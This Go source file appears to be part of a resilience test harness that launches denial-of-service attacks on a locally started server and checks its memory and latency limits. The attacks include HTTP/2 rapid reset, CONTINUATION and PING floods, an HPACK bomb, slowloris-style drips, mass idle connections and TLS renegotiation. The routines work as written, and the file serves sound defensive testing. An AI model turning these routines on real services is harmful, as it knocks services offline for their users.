package main

import (
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"time"

	"golang.org/x/net/http2"
)

// attack is abuse that goes on and on, from a process of its own, while honest
// clients work. act abuses one connection until it is cut off; it is called again
// and again on new ones.
type attack struct {
	name        string
	connections int // at a time
	tls         bool
	program     string // that act needs
	act         func(target string) error
}

func attacks() []attack {
	return []attack{
		{name: "none, a process that spins", connections: 1, act: spin},
		{name: "rapid reset", connections: 4, act: overH2(forever(resets))},
		{name: "CONTINUATION flood", connections: 4, act: overH2(continuations)},
		{name: "SETTINGS flood", connections: 4, act: overH2(forever(settings))},
		{name: "PING flood", connections: 4, act: overH2(forever(pings))},
		{name: "HPACK bomb", connections: 4, act: overH2(hpackBomb)},
		{name: "huge metadata", connections: 4, act: overH2(hugeMetadata)},
		{name: "slow headers", connections: 1000, act: slowHeaders},
		{name: "slow bodies", connections: 1000, act: overH2(slowBody)},
		{name: "50,000 silent connections, or as many as are allowed", connections: 50_000, act: holdOpen},
		{name: "half-open TLS handshakes", connections: 1000, tls: true, act: halfHandshake},
		{name: "TLS handshakes one after the other", connections: 8, tls: true, act: handshake},
		{name: "TLS renegotiation", connections: 2, tls: true, program: "openssl", act: renegotiate},
	}
}

const (
	attackGrowth   = 64 << 20    // bytes by which the server's memory may grow
	attackSlowdown = 2           // of the honest clients' p99
	attackLong     = time.Minute // from here on there are calls enough for a p99 to count
)

func attackScenarios() []scenario {
	var list []scenario
	for _, a := range attacks()[1:] {
		list = append(list, scenario{"attack: " + a.name, a.run})
	}
	return list
}

// run measures the honest clients alone, beside a process that only takes CPU
// time, and beside the attack. On few cores the second is what the third is
// compared with: an attacker here takes the time from the server's own machine.
func (a attack) run(st *stage) (string, error) {
	if _, err := exec.LookPath(a.program); a.program != "" && err != nil {
		return "", skipped(err.Error())
	}
	start := st.startVictim
	if a.tls {
		start = st.startTLSVictim
	}
	ours, err := start(st.Etcd)
	if err != nil {
		return "", err
	}
	defer func() { _ = ours.Kill() }()
	if _, err := honest(ours, time.Second); err != nil {
		return "", err
	}
	length := time.Duration(st.attackSeconds) * time.Second
	calm := min(length, 10*time.Second)
	alone, err := honest(ours, calm)
	if err != nil {
		return "", err
	}
	_, beside, err := underAttack(ours, attacks()[0], calm)
	if err != nil {
		return "", err
	}
	term, err := ours.term()
	if err != nil {
		return "", err
	}
	before := memory(ours.Pid())
	peak, during, err := underAttack(ours, a, length)
	if err != nil {
		return "", err
	}
	if err := ours.intact(); err != nil {
		return "", err
	}
	if after, err := ours.term(); err != nil || after != term {
		return "", fmt.Errorf("the leader changed: term %d, then %d, %v", term, after, err)
	}
	happened := fmt.Sprintf("%d at a time; memory +%d MiB; p99 %s alone, %s beside a spinning process, %s under attack",
		a.allowed(), (peak-before)>>20, round(alone), round(beside), round(during))
	if peak-before > attackGrowth {
		return "", fmt.Errorf("%s: more than %d MiB", happened, attackGrowth>>20)
	}
	if length >= attackLong && during > attackSlowdown*max(alone, beside) {
		return "", fmt.Errorf("%s: more than %d times", happened, attackSlowdown)
	}
	return happened, nil
}

func round(d time.Duration) time.Duration { return d.Round(10 * time.Microsecond) }

// allowed is how many connections a process may hold here: the attacker and the
// server are both held to it.
func (a attack) allowed() int {
	var limit syscall.Rlimit
	if err := syscall.Getrlimit(syscall.RLIMIT_NOFILE, &limit); err != nil {
		return a.connections
	}
	return min(a.connections, int(limit.Max)-1500)
}

// underAttack runs the attack beside honest clients; peak is the server's largest
// memory meanwhile.
func underAttack(v *victim, a attack, length time.Duration) (peak int, p99 time.Duration, err error) {
	attacker := exec.Command(os.Args[0], "-attack="+a.name, "-target="+v.target())
	attacker.Stderr = os.Stderr
	attacker.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	if err := attacker.Start(); err != nil {
		return 0, 0, err
	}
	done := make(chan struct{})
	highest := make(chan int)
	go func() {
		most := 0
		for {
			most = max(most, memory(v.Pid()))
			select {
			case <-done:
				highest <- most
				return
			case <-time.After(50 * time.Millisecond):
			}
		}
	}()
	p99, err = honest(v, length)
	close(done)
	peak = <-highest
	_ = attacker.Process.Kill()
	_ = attacker.Wait()
	return peak, p99, err
}

// attackMain is what the attacker's process does: until it is killed.
func attackMain(name, target string) {
	for _, a := range attacks() {
		if a.name != name {
			continue
		}
		count := a.allowed()
		_ = syscall.Setpriority(syscall.PRIO_PROCESS, 0, 10)
		for range count {
			go func() {
				for {
					_ = a.act(target)
					time.Sleep(time.Millisecond) // after it was cut off
				}
			}()
		}
		select {}
	}
	fmt.Fprintln(os.Stderr, "badinput: no such attack:", name)
	os.Exit(2)
}

func spin(string) error {
	for {
	}
}

// overH2 gives the abuse a connection that is read from, so that the server is
// never short of someone to tell; pings and settings are better unread, but a
// server that queues its answers shows in memory all the same.
func overH2(abuse func(*h2) error) func(string) error {
	return func(target string) error {
		c, err := dialH2(target)
		if err != nil {
			return err
		}
		defer c.Close()
		go func() { _, _ = io.Copy(io.Discard, c) }()
		return abuse(c)
	}
}

func forever(once func(*h2) error) func(*h2) error {
	return func(c *h2) error {
		for {
			if err := once(c); err != nil {
				return err
			}
		}
	}
}

// hpackBomb puts a large field into the server's table and refers to it thousands
// of times in a few bytes.
func hpackBomb(c *h2) error {
	block := c.encode(append(rangeHeaders(), field{"x", strings.Repeat("v", 4000)}))
	bomb := append([]byte{}, c.encode(rangeHeaders())...)
	for range 16_000 {
		bomb = append(bomb, 0x80|62)
	}
	stream := uint32(1)
	send := func(block []byte) error {
		err := c.framer.WriteHeaders(http2.HeadersFrameParam{
			StreamID: stream, BlockFragment: block, EndHeaders: true, EndStream: true})
		stream += 2
		return err
	}
	if err := send(block); err != nil {
		return err
	}
	for {
		if err := send(bomb); err != nil {
			return err
		}
	}
}

func hugeMetadata(c *h2) error {
	fields := append(rangeHeaders(), field{"x-large", strings.Repeat("v", 512<<10)})
	for stream := uint32(1); ; stream += 2 {
		if err := c.open(stream, fields); err != nil {
			return err
		}
	}
}

func slowHeaders(target string) error {
	conn, err := net.Dial("tcp", target)
	if err != nil {
		return err
	}
	defer conn.Close()
	return drip(conn, "GET /version HTTP/1.1\r\nHost: a\r\nX-Long: "+strings.Repeat("v", 1000))
}

func slowBody(c *h2) error {
	if err := c.open(1, rangeHeaders()); err != nil {
		return err
	}
	body := message(0, make([]byte, 1000), 1_000_000)
	return drip(c, string([]byte{0, byte(len(body) >> 8), byte(len(body)), byte(http2.FrameData), 0, 0, 0, 0, 1})+string(body))
}

func drip(to io.Writer, text string) error {
	for i := range text {
		if _, err := to.Write([]byte{text[i]}); err != nil {
			return err
		}
		time.Sleep(200 * time.Millisecond)
	}
	return nil
}

// holdOpen says nothing. (A connection that has begun HTTP/2 costs the server some
// 13 KiB, a silent one half a KiB; with etcd it is 19 and 6.) One source address has
// not enough ports for all of them.
func holdOpen(target string) error {
	source := net.IPv4(127, 0, 1, byte(time.Now().UnixNano()/100%16))
	dialer := net.Dialer{LocalAddr: &net.TCPAddr{IP: source}, Timeout: answerLimit}
	conn, err := dialer.Dial("tcp", target)
	if err != nil {
		return err
	}
	defer conn.Close()
	_, err = io.Copy(io.Discard, conn)
	return err
}

// halfHandshake sends the beginning of a ClientHello.
func halfHandshake(target string) error {
	conn, err := net.Dial("tcp", target)
	if err != nil {
		return err
	}
	defer conn.Close()
	if _, err := conn.Write([]byte{22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3}); err != nil {
		return err
	}
	_, err = io.Copy(io.Discard, conn)
	return err
}

func handshake(target string) error {
	conn, err := dialTLS(target)
	if err != nil {
		return err
	}
	return conn.Close()
}

// renegotiate asks for a new handshake on a TLS 1.2 connection, which Go's client
// can't do.
func renegotiate(target string) error {
	client := exec.Command("openssl", "s_client", "-tls1_2", "-connect", target, "-legacy_server_connect")
	client.Stdin = strings.NewReader(strings.Repeat("R\n", 1000))
	client.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	return client.Run()
}
